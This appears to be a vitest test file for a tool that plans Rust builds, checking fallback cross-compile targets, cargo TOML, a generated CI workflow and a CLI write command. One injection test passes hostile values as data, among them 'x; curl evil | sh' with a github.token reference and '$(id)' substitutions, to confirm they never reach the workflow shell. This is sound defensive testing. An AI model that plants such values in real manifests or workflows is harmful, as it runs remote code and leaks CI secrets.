import path from "node:path";
import { createFixture } from "fs-fixture";
import { describe, expect, test } from "vitest";
import { parse } from "yaml";
import { loadFallback } from "../../src/kb/fallback.ts";
import { parseToml } from "../../src/cargo/toml.ts";
import { HOSTS } from "../../src/model/host.ts";
import { plan } from "../../src/api.ts";
import { workflowText } from "../../src/plan/workflow.ts";
import { loadProfile } from "../../src/kb/profiles.ts";
import { runCli } from "../cli/support.ts";

const DEMO = path.join(import.meta.dirname, "../../fixtures/demo");
const found = await plan({
  input: { kind: "path", path: DEMO },
  profile: "rust-ape",
  hosts: ["linux-x64", "windows-x64", "freebsd-x64"],
  noCargo: true,
  cacheDir: false,
});

describe("a server that builds nowhere as an APE", () => {
  test("has a plain target for each lost host, with what its C needs there", () => {
    const { fallback } = found;
    expect(fallback?.targets.map(({ triple }) => triple)).toEqual([
      "x86_64-unknown-linux-musl",
      "x86_64-pc-windows-gnu",
      "x86_64-unknown-freebsd",
    ]);
    const windows = fallback?.targets.find(({ triple }) => triple.includes("windows"));
    expect(windows).toMatchObject({ linker: "x86_64-w64-mingw32-gcc", crates: ["fast-mix"] });
    expect(windows?.env).toHaveProperty("CC_x86_64_pc_windows_gnu");
  });

  test("the entries for cargo are TOML", () => {
    const raw = parseToml(found.fallback?.cargoConfig ?? "", "config.toml");
    expect(raw["target"]).toEqual({
      "x86_64-pc-windows-gnu": { linker: "x86_64-w64-mingw32-gcc" },
    });
  });

  test("the workflow, as text", async () => {
    await expect(found.fallback?.workflow).toMatchFileSnapshot("goldens/demo.workflow.yml");
  });
});

test("every host has one plain target", () => {
  const hosts = loadFallback().targets.flatMap((target) => target.hosts);
  expect(hosts.toSorted()).toEqual(HOSTS.toSorted());
});

test("a name from a manifest never reaches the workflow's shell", () => {
  const text = workflowText({
    bin: "x; curl evil | sh #${{ github.token }}",
    apeHosts: ["linux-x64"],
    targets: found.fallback?.targets ?? [],
    profile: loadProfile("none"),
    flags: ["--features", "$(id)"],
    apeFlags: ["`id`"],
  });
  for (const bad of ["evil", "github.token", "$(id)", "`id`"]) expect(text).not.toContain(bad);
  expect(parse(text)).toHaveProperty("jobs.ape");
});

describe("plan --write", () => {
  test("writes the plan, the table for Cargo.toml and the workflow, and never over them", async () => {
    await using fixture = await createFixture();
    const args = [
      "plan",
      DEMO,
      "--profile",
      "ape-rs",
      "--no-cargo",
      "--no-cache",
      "--write",
      fixture.path,
    ];
    expect(await runCli(args)).toMatchObject({ code: 0 });
    expect(await fixture.readFile("patch.toml", "utf8")).toContain("[patch.crates-io]");
    expect(await fixture.readFile("programs.yml", "utf8")).toContain("jobs:");
    expect(await fixture.readFile("plan.md", "utf8")).toContain("## Plan for");
    expect(await runCli(args)).toMatchObject({ code: 2 });
  });
});
